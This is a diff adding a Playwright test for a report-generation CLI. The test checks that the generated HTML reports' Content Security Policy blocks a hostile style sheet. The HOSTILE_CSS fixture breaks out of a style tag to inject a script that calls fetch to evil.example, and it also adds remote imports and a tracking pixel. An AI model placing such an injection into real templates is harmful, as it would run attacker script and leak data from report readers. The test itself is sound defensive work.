@@ -70,3 +70,48 @@ def test_reports_render_in_chromium_without_errors_or_requests(report_dir, tmp_p
             assert pdf[:4] == b"%PDF" and pdf.count(b"/Type /Page") >= 2
         finally:
             browser.close()
+
+
+HOSTILE_CSS = """@import url(https://evil.example/x.css);
+body { color: #222; background: url(https://evil.example/fondo.png); }
+</style><script>document.title = 'pwned'; fetch('https://evil.example/robado')</script>
+<img src="https://evil.example/pixel.png"><style>
+"""
+
+
+def test_the_content_security_policy_stops_what_a_hostile_style_sheet_adds(tmp_path):
+    """Issue 11, item 11: a pull request touching only `templates/reports/style.css`
+    adds a script and remote loads to every report; the browser runs and loads none."""
+    assert CHROMIUM, "chromium is required in CI"
+    from playwright.sync_api import sync_playwright
+
+    from coprod_cli.cli import main
+
+    repo = tmp_path / "canton"
+    shutil.copytree(EXAMPLE, repo, ignore=shutil.ignore_patterns(".coprod-cache"))
+    (repo / "templates" / "reports").mkdir(parents=True)
+    (repo / "templates" / "reports" / "style.css").write_text(HOSTILE_CSS, encoding="utf-8")
+    out = tmp_path / "informes"
+    with pytest.raises(SystemExit) as exc:
+        main(["report", str(repo), "--out", str(out), "--as-of", "2016-01", "--format", "html", "--only", "indice"])
+    assert exc.value.code == 0
+    page_path = out / "index.html"
+    assert "<script>" in page_path.read_text(encoding="utf-8")  # the template did add it
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--no-first-run"])
+        try:
+            page = browser.new_page()
+            requests: list[str] = []
+            errors: list[str] = []
+            failed: list[str] = []
+            page.on("request", lambda r: requests.append(r.url) if r.url != page_path.as_uri() else None)
+            page.on("requestfailed", lambda r: failed.append(r.url) if r.failure == "csp" else None)
+            page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
+            page.goto(page_path.as_uri(), wait_until="load")
+            page.wait_for_timeout(300)
+            assert page.title().endswith("Desamparados")  # the script did not run
+            # Every remote load the page tried was stopped by the policy, before the network.
+            assert "https://evil.example/pixel.png" in requests and sorted(requests) == sorted(failed), (requests, failed)
+            assert any("Content Security Policy" in e for e in errors), errors  # the browser says why
+        finally:
+            browser.close()
